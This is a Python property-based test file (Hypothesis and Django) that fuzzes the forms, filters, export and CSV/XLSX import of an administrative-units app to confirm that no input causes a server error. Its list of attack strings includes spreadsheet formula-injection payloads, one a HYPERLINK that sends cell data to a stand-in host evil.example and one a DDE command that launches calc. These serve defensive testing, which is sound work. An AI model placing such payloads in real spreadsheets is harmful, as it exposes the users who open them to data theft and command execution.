"""Property-based: whatever people type into the unit forms (create, edit, move, deactivate, type
assignment, the list filter and the tree search) and whatever a units file holds (any text, numbers, dates, broken bytes),
the answer is a page with a message or a redirect, never a server error, on SQLite and PostgreSQL
alike; and whatever gets saved passes every unit rule."""

import csv
import datetime as dt
import io
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from units.imports import ImportRefused, read_rows
from units.models import Level, Unit, UnitImport, UnitType
from units.resources import HEADERS

pytestmark = pytest.mark.django_db
PROPERTY = settings(max_examples=40, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

# Text people paste: any character (no lone surrogates: a browser cannot send them), the attacks,
# and the values the forms expect, so that valid submissions are explored too.
ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=80)
ATTACKS = st.sampled_from([
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", ",,,", "\u202e123",
    "长" * 5000, "330106", "330000", "330106001", "T000", "", " ", "\x00", "0" * 40, "-1", "9" * 30,
])
TEXT = st.one_of(ANY_TEXT, ATTACKS)
LEVEL = st.one_of(st.sampled_from(Level.values), TEXT)
TYPE = st.one_of(st.sampled_from(UnitType.values), TEXT)
FLAG = st.sampled_from(["", "on", "x"])


def assert_clean_answer(response):
    """A redirect, a refusal, or the form again with its message: never a server error."""
    assert response.status_code in (200, 302, 400, 403, 404), response.status_code
    if response.status_code == 200 and response.request["REQUEST_METHOD"] == "POST":
        html = response.content.decode()
        assert "invalid-feedback" in html or "alert-danger" in html or "alert" in html


def assert_saved_units_fit():
    for unit in Unit.objects.select_related("parent"):
        unit.full_clean()


@pytest.fixture
def office(client, world):
    client.force_login(world.office_province)
    return client


@PROPERTY
@given(code=TEXT, name=TEXT, short_name=TEXT, parent_code=TEXT, level=LEVEL, unit_type=TYPE,
       window=FLAG, contact=FLAG)
def test_create_form(office, world, code, name, short_name, parent_code, level, unit_type, window, contact):
    response = office.post(reverse("units:create"), {
        "code": code, "name": name, "short_name": short_name, "parent_code": parent_code, "level": level,
        "unit_type": unit_type, "is_window_unit": window, "is_contact_point": contact,
    })
    assert_clean_answer(response)
    if response.status_code == 302:
        unit = Unit.objects.get(code=code.strip())
        unit.full_clean()


@PROPERTY
@given(code=TEXT, name=TEXT, short_name=TEXT, level=LEVEL, unit_type=TYPE)
def test_edit_form(office, world, code, name, short_name, level, unit_type):
    response = office.post(reverse("units:edit", kwargs={"unit_id": world.street.pk}), {
        "code": code, "name": name, "short_name": short_name, "level": level, "unit_type": unit_type,
    })
    assert_clean_answer(response)
    world.street.refresh_from_db()
    world.street.full_clean()


@PROPERTY
@given(parent_code=st.one_of(TEXT, st.sampled_from(["330000", "330100", "330200", "330106", "330106001", "000000"])))
def test_move_form(office, world, parent_code):
    response = office.post(reverse("units:move", kwargs={"unit_id": world.street.pk}), {"parent_code": parent_code})
    assert_clean_answer(response)
    world.street.refresh_from_db()
    world.street.full_clean()


@PROPERTY
@given(reason=TEXT)
def test_deactivate_form(office, world, reason):
    response = office.post(reverse("units:deactivate", kwargs={"unit_id": world.beilun.pk}), {"reason": reason})
    assert_clean_answer(response)


@PROPERTY
@given(units=st.lists(st.one_of(st.integers(min_value=-5, max_value=10**12).map(str), TEXT), max_size=4), unit_type=TYPE)
def test_type_assignment(office, world, units, unit_type):
    response = office.post(reverse("units:assign"), {"units": units, "unit_type": unit_type})
    assert response.status_code in (302, 400)
    assert_saved_units_fit()


@PROPERTY
@given(q=TEXT, level=LEVEL, unit_type=TYPE, inactive=FLAG, under=st.one_of(TEXT, st.integers().map(str)),
       page=st.one_of(TEXT, st.integers().map(str)), fmt=st.sampled_from(["xlsx", "csv", "pdf"]))
def test_list_filter_tree_search_and_export(office, world, q, level, unit_type, inactive, under, page, fmt):
    query = {"q": q, "level": level, "unit_type": unit_type, "inactive": inactive, "under": under, "page": page}
    assert_clean_answer(office.get(reverse("units:list"), query))
    assert_clean_answer(office.get(reverse("units:tree"), {"q": q}))
    assert_clean_answer(office.post(reverse("units:export") + "?" + urlencode({**query, "format": fmt})))


# --- the import parser ------------------------------------------------------------------------

CELL = st.one_of(
    st.none(), TEXT, st.integers(min_value=-(10**15), max_value=10**15), st.floats(allow_nan=True, allow_infinity=False),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)), st.booleans(),
    st.sampled_from(["330106", "330106001", "乡镇、街道", "街道", "村、社区", "社区", "是", "否", "省", "机关部门"]),
)
ROWS = st.lists(st.lists(CELL, min_size=0, max_size=11), min_size=0, max_size=6)
HEADER_ROW = st.one_of(st.just(list(HEADERS.values())), st.lists(TEXT, max_size=10))


def as_csv(header, rows):
    out = io.StringIO()
    writer = csv.writer(out)
    for row in [header, *rows]:
        writer.writerow(["" if value is None else str(value) for value in row])
    return out.getvalue().encode("utf-8-sig", errors="replace")


def as_xlsx(header, rows):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in [header, *rows]:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value)[:32000] if isinstance(value, str) else value for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@PROPERTY
@given(header=HEADER_ROW, rows=ROWS, fmt=st.sampled_from(["csv", "xlsx"]))
# Found by this test on PostgreSQL: a message quoting a NUL byte could not be stored as JSON.
@example(header=list(HEADERS.values()), rows=[["330106009", "某村", "", "330106001", "\x00", "\x00村", "\x00", "", ""]], fmt="csv")
def test_import_of_any_cells(office, world, header, rows, fmt):
    data = as_csv(header, rows) if fmt == "csv" else as_xlsx(header, rows)
    response = office.post(reverse("units:import"), {"file": SimpleUploadedFile(f"units.{fmt}", data)}, follow=True)
    assert response.status_code == 200
    job = response.context.get("job")
    if job is None:
        assert 'data-field-error="file"' in response.content.decode()
        return
    assert job.status in (UnitImport.Status.CHECKED, UnitImport.Status.REFUSED)
    if job.status == UnitImport.Status.REFUSED:
        assert job.errors and all(isinstance(number, int) and messages for number, messages in job.errors)
        return
    response = office.post(reverse("units:import_confirm", kwargs={"import_id": job.pk}), follow=True)
    assert response.status_code == 200
    job.refresh_from_db()
    assert job.status in (UnitImport.Status.DONE, UnitImport.Status.FAILED)
    assert_saved_units_fit()


@PROPERTY
@given(data=st.binary(max_size=4000), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_reading_any_bytes_gives_rows_or_a_refusal(tmp_path, data, suffix):
    path = tmp_path / f"file{suffix}"
    path.write_bytes(data)
    try:
        rows = read_rows(path)
    except ImportRefused as refused:
        assert str(refused)
    else:
        assert len(rows.numbers) == len(rows.dataset)
